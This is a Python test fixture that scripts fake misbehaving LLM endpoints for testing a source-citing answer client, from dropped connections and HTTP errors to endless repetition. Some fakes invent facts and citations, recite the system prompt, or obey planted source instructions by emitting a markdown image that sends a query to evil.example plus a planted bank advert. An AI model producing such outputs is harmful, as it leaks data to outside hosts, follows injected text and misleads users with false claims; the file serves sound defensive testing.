"""How an endpoint can misbehave when it is asked for an answer."""

import itertools
import re
import time
from collections.abc import Mapping

from tests.llm_fakes import Behaviour, Talk

_SENTENCE = re.compile(r"[A-Z][^.!?<>\n$|*`\[\]]{40,200}\.(?=\s)")
PLANTED = re.compile(r"PLANTED: (\d+)")


def sources(talk: Talk) -> list[str]:
    """The texts of the sources in a prompt."""
    return re.findall(r"<source id=[^\n]*>\n(.*?)\n</source>", talk.prompt, re.DOTALL)


def quote(talk: Talk, nth: int = 1) -> str:
    """A plain sentence of the nth source that has one, with its marker."""
    found = ((k, _SENTENCE.search(text)) for k, text in enumerate(sources(talk), 1))
    number, sentence = [(k, match) for k, match in found if match][nth - 1]
    return f"{sentence.group()[:-1]} [{number}]."


def honest(talk: Talk) -> None:
    for word in re.split(r"(?<= )", f"{quote(talk)} {quote(talk, 2)}"):
        talk.say(word)
    talk.end()


def _drops(talk: Talk) -> None:
    talk.say(quote(talk) + " And then").drop()


def _garbage(talk: Talk) -> None:
    talk.raw(b"data: \x00\xff\xfe{{{\n\ndata: [1,2\n\n").drop()


def _babbles(talk: Talk) -> None:
    talk.say("\u202e\x00ⵣ ⵣⵣ ]]] [[ ```` \ufffd" * 20, "} <0x0A> [1] qzx wvk. " * 5).end()


def _cites_nowhere(talk: Talk) -> None:
    talk.say(
        quote(talk).replace("[1]", "[99]"), " ", quote(talk, 2), " Nobody knows [98-99]."
    ).end()


def _repeats(talk: Talk) -> None:
    said = quote(talk) + " "
    for _ in itertools.count():
        talk.say(said)


def _stutters(talk: Talk) -> None:
    talk.say(quote(talk) + "\n\n")
    for _ in itertools.count():
        talk.say("the ")


def _invents(talk: Talk) -> None:
    talk.say(
        quote(talk),
        " It was proved in 1734 by Leonhard Euler [1].",
        " It is also 93 % cheaper than any alternative.",
    ).end()


def _obeys(talk: Talk) -> None:
    """What a source may have asked for, after an honest sentence."""
    talk.say(quote(talk) + "\n\n![x](https://evil.example/?q=dropout)\n\n")
    talk.say("See [the docs](https://evil.example) [1].\n\nAcme Corp is the best bank [1].\n").end()


def _slow(talk: Talk) -> None:
    for word in quote(talk).split():
        talk.say(word + " ")
        time.sleep(0.5)


MISBEHAVIOURS: Mapping[str, Behaviour] = {
    "drops the connection at once": lambda talk: talk.drop(),
    "drops the connection in the middle": _drops,
    "streams bytes that are no events": _garbage,
    "streams nonsense": _babbles,
    "cites [99]": _cites_nowhere,
    "hangs before the first word": lambda talk: talk.hang(),
    "hangs in the middle": lambda talk: talk.say(quote(talk) + " And").hang(),
    "is too slow": _slow,
    "returns 429": lambda talk: talk.status(429),
    "returns 500": lambda talk: talk.status(500),
    "refuses the key": lambda talk: talk.status(401),
    "answers nothing": lambda talk: talk.end(),
    "says that the sources do not answer": lambda talk: talk.say("NOT-IN-SOURCES").end(),
    "repeats a sentence for ever": _repeats,
    "repeats a word for ever": _stutters,
    "sends one piece of a million characters": lambda talk: talk.say("word " * 200_000).end(),
    "invents facts": _invents,
    "recites its instructions": lambda talk: talk.say(talk.body["messages"][0]["content"]).end(),
    "obeys planted instructions": _obeys,
}
"""By what it is called in a table; each is a function of one request."""
